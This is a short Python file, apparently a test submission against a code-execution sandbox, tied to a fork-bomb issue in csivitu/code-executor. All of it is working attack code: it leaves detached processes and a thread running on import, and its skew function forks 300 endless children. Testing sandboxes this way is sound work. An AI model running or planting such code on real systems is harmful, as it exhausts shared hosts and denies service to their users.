"""Leaves detached child processes and a thread behind, and starts 300 processes in one function.

Published against csivitu/code-executor (issue 15: a fork bomb in the container).

deserves: 9
"""

import contextlib
import os
import subprocess
import threading
import time


def linger():
    while True:
        time.sleep(1)


for start in (
    lambda: os.fork() or (os.setsid(), os.fork() or linger()),
    lambda: subprocess.Popen(["sleep", "1000"], start_new_session=True),
    lambda: subprocess.Popen("sleep 1000 &", shell=True),
    lambda: os.posix_spawn("/bin/sleep", ["sleep", "1000"], {}),
    lambda: threading.Thread(target=linger, daemon=False).start(),
):
    with contextlib.suppress(Exception):
        start()


def skew(v):
    for _ in range(300):
        if os.fork() == 0:
            linger()
    return [[0] * 3] * 3
